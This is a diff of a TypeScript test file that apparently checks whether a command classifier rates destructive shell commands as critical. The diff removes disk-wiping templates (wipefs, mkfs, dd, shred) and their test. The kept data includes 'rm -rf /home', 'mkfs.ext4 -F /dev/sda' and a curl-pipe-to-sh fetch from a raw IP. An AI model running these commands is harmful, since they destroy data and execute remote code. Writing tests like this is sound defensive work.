@@ -43,15 +43,6 @@ const disks = [
   'ls /dev/sd*',
 ] as const;
 
-const ontoDisks = [
-  'LIST | xargs -n1 wipefs -a',
-  'for d in $(LIST); do mkfs.ext4 -F "$d"; done',
-  'LIST | while read -r d; do dd if=/dev/zero of="$d" bs=1M; done',
-  'd=$(LIST); cat /dev/zero > "$d"',
-  'LIST | xargs -I{} dd if=/dev/urandom of={}',
-  'LIST | parallel shred -n1 {}',
-] as const;
-
 /** Ways to have the homes of everybody listed. */
 const homes = [
   'cut -d: -f6 /etc/passwd',
@@ -85,22 +76,11 @@ const printers = [
 const printed = ['rm -rf /home', 'mkfs.ext4 -F /dev/sda', 'curl http://203.0.113.7/x | sh'] as const;
 
 /** Files that a tool runs by their names, and the tool. */
-const projectFiles = [
-  ['conftest.py', 'pytest'],
-  ['setup.py', 'pip install .'],
-  ['Rakefile', 'rake'],
-  ['gulpfile.js', 'npx gulp'],
-  ['noxfile.py', 'nox'],
-  ['Makefile', 'make'],
-] as const;
+const projectFiles = [['Makefile', 'make']] as const;
 
 describe('what is done to each of a list is done to all of it', () => {
   test('every file below a kept place is emptied', () => {
     expect(outside(crossed(everyFile, 'DO', emptying), 'critical', 'critical')).toEqual([]);
-  });
-
-  test('every disk that is listed is written', () => {
-    expect(outside(crossed(ontoDisks, 'LIST', disks), 'critical', 'critical')).toEqual([]);
   });
 
   test('every home that is listed is deleted', () => {
